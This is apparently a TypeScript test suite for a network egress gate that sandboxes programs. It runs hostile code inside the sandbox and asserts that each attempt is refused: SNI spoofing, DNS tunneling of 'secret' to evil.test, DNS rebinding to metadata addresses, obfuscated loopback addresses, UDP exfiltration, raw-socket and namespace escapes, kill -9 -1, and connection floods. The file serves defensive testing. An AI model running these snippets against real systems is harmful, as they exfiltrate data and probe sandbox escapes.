import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { existsSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import { after, test } from 'node:test';
import { createServer as createTlsServer } from 'node:tls';
import { helloBytes } from '#test/client-hello-bytes.ts';
import { allow, noBoxes, runBox, runNode, startBox, tlsServer, toLoopback } from '#test/egress-fixture.ts';
import { TEST_CERTIFICATE, TEST_KEY } from '#test/fakes/test-authority.ts';
import type { Egress, HostUse } from './egress.ts';
import type { GateOptions } from './open-gate.ts';
import { openEgressGate } from './open-gate.ts';

/** Attempts of a hostile program to reach the network from its box. */

const skip = noBoxes;
const PYTHON = '/usr/bin/python3';
const noPython = existsSync(PYTHON) ? skip : `${PYTHON} is not installed`;
const server = await tlsServer();
after(() => server.close());
const { port, requests } = server;
const HOST = 'api.example.test';
const granted = allow(HOST, port);
const reasons = (uses: HostUse[]): string[] => uses.map(({ host, reason }) => `${host} ${reason}`);

/** Sends bytes from a box to a granted host. Returns the bytes received before the end, and the recorded uses. */
async function sendBytes(parts: readonly Buffer[], options: Partial<GateOptions> = {}, at = port) {
  const source = `
    import { connect } from 'node:net';
    const socket = connect(${at}, '${HOST}');
    let bytes = '';
    socket.on('data', (chunk) => { bytes += chunk.toString('hex') });
    socket.on('error', (error) => { bytes += error.code });
    socket.on('close', () => console.log(bytes));
    for (const part of ${JSON.stringify(parts.map((part) => part.toString('hex')))}) {
      await new Promise((resolve) => socket.write(Buffer.from(part, 'hex'), resolve));
      await new Promise(setImmediate);
    }`;
  const { stdout, uses } = await runNode(allow(HOST, at), source, options);
  return { received: stdout.trim(), uses };
}

const ACCESS_DENIED = '15030300020231';

test('refuses a ClientHello with another name, no name, two names or an encrypted extension', { skip }, async () => {
  const cases: [string, Buffer][] = [
    ['sni_mismatch', helloBytes({ names: ['evil.example.test'] })],
    ['sni_mismatch', helloBytes({ names: [`${HOST}.evil.test`] })],
    ['sni_mismatch', helloBytes({ names: [`${HOST}.`] })],
    ['sni_mismatch', helloBytes({ names: [`${HOST}\0.evil.test`] })],
    ['sni_mismatch', helloBytes({ names: ['127.0.0.1'] })],
    ['sni_missing', helloBytes()],
    ['sni_encrypted', helloBytes({ names: [HOST], extensions: [[0xfe0d, Buffer.alloc(60)]] })],
    ['hello_malformed', helloBytes({ names: [HOST, 'evil.example.test'] })],
  ];
  const before = requests.length;
  for (const [reason, bytes] of cases) {
    const { received, uses } = await sendBytes([bytes]);
    assert.equal(received, ACCESS_DENIED, reason);
    assert.deepEqual(reasons(uses), [`${HOST} ${reason}`]);
  }
  assert.equal(requests.length, before);
});

test('refuses a second ClientHello (after HelloRetryRequest) with another name', { skip }, async () => {
  const names: unknown[] = [];
  const vhosts = createTlsServer({
    cert: TEST_CERTIFICATE,
    key: TEST_KEY,
    ecdhCurve: 'P-521',
    SNICallback(name, done) {
      names.push(name);
      done(null);
    },
  });
  vhosts.on('tlsClientError', () => {});
  await new Promise<void>((resolve) => vhosts.listen(0, '127.0.0.1', resolve));
  const at = (vhosts.address() as AddressInfo).port;
  const [first, second] = [HOST, 'evil.example.test'].map((name) => helloBytes({ names: [name] })) as [Buffer, Buffer];
  // The second one is sent after the server's response, then together with the first one.
  for (const parts of [[first, second], [Buffer.concat([first, second])]]) {
    const { received, uses } = await sendBytes(parts, { limits: { hello_ms: 500 } }, at);
    const [reached, refused] = uses;
    assert.equal(reached?.outcome, 'reached');
    assert.equal(refused?.reason, 'sni_mismatch', received);
    assert.equal(reached?.bytes_out, first.length, 'no byte of the second one was passed on');
  }
  assert.ok(!names.includes('evil.example.test'));
  vhosts.close();
});

test('DNS tunneling: no lookup of a box leaves the process', { skip }, async () => {
  const asked: string[] = [];
  const source = `
    import { Resolver } from 'node:dns/promises';
    const resolver = new Resolver({ timeout: 2_000, tries: 1 });
    const data = Buffer.from('secret').toString('hex');
    for (const type of ['A', 'AAAA', 'TXT', 'MX', 'CNAME', 'NS', 'SRV', 'ANY', 'NAPTR', 'SOA', 'CAA'])
      for (const name of [data + '.evil.test', data + '.example.test'])
        console.log(type, await resolver.resolve(name, type).then(JSON.stringify, (e) => e.code));
    resolver.setServers(['8.8.8.8']);
    console.log(await resolver.resolve4('evil.test').catch((e) => e.code));`;
  const { stdout, uses } = await runNode(allow('*.example.test', port), source, {
    resolve: async (name) => {
      asked.push(name);
      return [];
    },
  });
  const lines = stdout.trim().split('\n');
  assert.equal(lines.length, 23);
  assert.equal(lines[1], 'A ["127.64.0.1"]');
  for (const line of [...lines.slice(0, 1), ...lines.slice(2)])
    assert.match(line, /(?:ENOTFOUND|ENODATA|ECONNREFUSED|ETIMEOUT|ENETUNREACH)$/, line);
  assert.deepEqual(asked, []);
  assert.deepEqual(reasons(uses), ['736563726574.evil.test not_granted']);
});

test('DNS rebinding: checks the address of each new connection', { skip }, async () => {
  const answers = ['127.0.0.1', '10.0.0.1', '169.254.169.254', '::ffff:10.0.0.1'];
  const source = `for (let i = 0; i < ${answers.length}; i++)
    console.log(await fetch('https://${HOST}:${port}', { headers: { connection: 'close' } }).then((r) => r.status, () => 'refused'));`;
  const resolve: NonNullable<GateOptions['resolve']> = async () => {
    const address = answers.shift() as string;
    return [{ address, family: address.includes(':') ? 6 : 4 }];
  };
  const { stdout, uses } = await runNode(granted, source, { resolve });
  assert.equal(stdout, '200\nrefused\nrefused\nrefused\n');
  assert.deepEqual(
    uses.map(({ outcome, reason, connections }) => [outcome, reason, connections]),
    [
      ['reached', null, 1],
      ['refused', 'private_address', 3],
    ],
  );
});

test('a box cannot reach literal addresses, and its loopback is not the host’s', { skip }, async () => {
  const own = Object.values(networkInterfaces()).flatMap((list) => (list ?? []).map(({ address }) => address));
  const hosts = [
    ...['127.0.0.1', 'localhost', '2130706433', '0x7f000001', '0177.0.0.1', '0.0.0.0', '[::1]', '[::ffff:127.0.0.1]'],
    ...['169.254.169.254', '10.0.0.1', '8.8.8.8', '[2606:4700:4700::1111]', '[64:ff9b::7f00:1]', '[fe80::1]'],
    ...own
      .filter((address) => !address.includes('%'))
      .map((address) => (address.includes(':') ? `[${address}]` : address)),
  ];
  const outside = createServer((socket) => socket.end('outside'));
  await new Promise<void>((resolve) => outside.listen(0, resolve));
  const at = (outside.address() as AddressInfo).port;
  const source = `for (const host of ${JSON.stringify(hosts)}) for (const at of [${at}, ${port}, 443])
    await fetch('https://' + host + ':' + at).then(() => console.log('through', host, at), () => {});
    console.log('tried');`;
  let accepted = 0;
  outside.on('connection', () => {
    accepted += 1;
  });
  const { stdout, uses } = await runNode(granted, source);
  assert.equal(stdout, 'tried\n');
  assert.equal(accepted, 0);
  assert.ok(
    uses.every(({ outcome, host }) => outcome === 'refused' && host.startsWith('127.')),
    JSON.stringify(uses),
  );
  outside.close();
});

test('UDP packets of a box reach only its own DNS server', { skip }, async () => {
  const outside = createSocket('udp4');
  let received = 0;
  outside.on('message', () => {
    received += 1;
  });
  await new Promise<void>((resolve) => outside.bind(0, resolve));
  const source = `
    import { createSocket } from 'node:dgram';
    for (const host of ['127.0.0.1', '8.8.8.8', '10.0.0.1', '255.255.255.255', '224.0.0.251']) {
      const socket = createSocket('udp4');
      socket.on('error', () => {});
      await new Promise((resolve) => socket.send('secret', ${outside.address().port}, host, (error) => {
        console.log(host, error?.code ?? 'sent'); resolve() }));
      socket.close();
    }`;
  const { stdout } = await runNode(granted, source);
  const lines = stdout.trim().split('\n');
  assert.equal(lines.length, 5);
  for (const line of lines.slice(1)) assert.match(line, /ENETUNREACH|EACCES/);
  assert.equal(received, 0);
  outside.close();
});

test('a box cannot open raw or packet sockets, join other namespaces or change network settings', {
  skip: noPython,
}, async () => {
  const source = `
import ctypes, os, socket
print([os.readlink('/proc/self/fd/' + fd) for fd in os.listdir('/proc/self/fd') if os.path.lexists('/proc/self/fd/' + fd)])
def attempt(name, act):
    try: act(); print(name, 'through')
    except OSError: print(name, 'refused')
def write(path, text):
    with open(path, 'w') as file: file.write(text)
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    if getattr(libc, name)(*args) != 0: raise OSError(ctypes.get_errno())
def bind(*address):
    socket.socket().bind(address)
attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt('tun', lambda: open('/dev/net/tun', 'r+b'))
attempt('sysctl', lambda: write('/proc/sys/net/ipv4/ip_unprivileged_port_start', '0'))
attempt('dns port', lambda: bind('127.0.0.53', 53))
attempt('https port', lambda: bind('127.64.0.1', 443))
attempt('setns', lambda: call('setns', os.open('/proc/self/ns/net', os.O_RDONLY), 0x40000000))
attempt('parent', lambda: __import__('fcntl').ioctl(os.open('/proc/self/ns/user', os.O_RDONLY), 0xb702))
print([line for line in open('/proc/self/status') if line.startswith('CapEff')])`;
  const { stdout, stderr } = await runBox(granted, [PYTHON, '-c', source]);
  const lines = stdout.trim().split('\n');
  assert.equal(lines.length, 10, stderr);
  assert.doesNotMatch(lines[0] as string, /net:|user:/, 'no descriptor of a namespace is left open');
  for (const line of lines.slice(1, 9)) assert.match(line, /refused$/);
  assert.match(lines[9] as string, /0{16}/);
});

test('a box cannot reach sockets on the loopback or abstract sockets of the host or another box', {
  skip,
}, async () => {
  const abstract = createServer((socket) => socket.end('outside'));
  const path = `\0capstan-egress-${process.pid}`;
  await new Promise<void>((resolve) => abstract.listen(path, resolve));
  const gate = await openEgressGate(granted, { resolve: toLoopback });
  const listening = `
    import { createServer } from 'node:net';
    createServer((s) => s.end('neighbour')).listen('\\0neighbour', () =>
      createServer((s) => s.end('neighbour')).listen(8_000, () => console.log('ready')))`;
  const neighbour = startBox(gate, ['/node', '--input-type=module', '--eval', listening]);
  await new Promise((resolve) => neighbour.stdout?.once('data', resolve));
  const source = `
    import { connect } from 'node:net';
    for (const to of [{ path: '\\0neighbour' }, { path: ${JSON.stringify(path)} }, { port: 8_000, host: '127.0.0.1' }])
      await new Promise((resolve) => connect(to).on('data', (data) => console.log(String(data)))
        .on('error', (error) => console.log(error.code)).on('close', resolve));`;
  const { stdout } = await runNode(granted, source);
  assert.equal(stdout, 'ECONNREFUSED\nECONNREFUSED\nECONNREFUSED\n');
  const gone = new Promise((resolve) => neighbour.once('close', resolve));
  neighbour.kill('SIGKILL');
  await gone;
  await gate.close();
  abstract.close();
});

test('a box that kills all its processes does not kill its gate', { skip }, async () => {
  const { stdout, uses } = await runNode(
    granted,
    `import { spawnSync } from 'node:child_process';
    spawnSync('/bin/sh', ['-c', 'trap "" TERM; kill -9 -1']);
    console.log((await fetch('https://${HOST}:${port}')).status)`,
  );
  // The signal goes to every process but the one that sends it, so the box itself may end as well.
  assert.ok(stdout === '200\n' || uses.length === 0);
  const { stdout: next } = await runNode(granted, `console.log((await fetch('https://${HOST}:${port}')).status)`);
  assert.equal(next, '200\n');
});

test('limits the rate and the recorded rows of a box that floods connections or lookups', { skip }, async () => {
  const connections = `
    import { connect } from 'node:net';
    for (let i = 0; i < 400; i++)
      await new Promise((resolve) => connect(443, '127.0.0.' + (1 + i % 200)).on('error', resolve).on('close', resolve));`;
  const limits = { connections_per_second: 20, lookups_per_second: 20, refusals: 20 };
  const { uses } = await runNode(granted, connections, { limits });
  assert.ok(uses.length <= 20 && uses.some(({ host, reason }) => host === '*' && reason === 'too_many'));
  assert.ok(uses.reduce((sum, row) => sum + row.connections, 0) < 300);
  const lookups = `
    import { Resolver } from 'node:dns/promises';
    const resolver = new Resolver({ timeout: 200, tries: 1 });
    for (let i = 0; i < 400; i += 20)
      await Promise.all(Array.from({ length: 20 }, (_, j) => resolver.resolve4('n' + (i + j) + '.evil.test').catch(() => {})));
    console.log(await resolver.resolve4('${HOST}').catch((error) => error.code));`;
  const asked = await runNode(granted, lookups, { limits });
  assert.match(asked.stdout, /ECONNREFUSED|ETIMEOUT/);
  assert.ok(asked.uses.length <= 20 && asked.uses.some(({ host }) => host === '*'));
});

test('the grants of one box do not apply to another box', { skip }, async () => {
  const other: Egress = allow('other.test', port);
  const source = `console.log(await fetch('https://${HOST}:${port}').then((r) => r.status, (e) => e.cause.code))`;
  const [first, second] = await Promise.all([runNode(granted, source), runNode(other, source)]);
  assert.deepEqual([first.stdout, second.stdout], ['200\n', 'ENOTFOUND\n']);
});
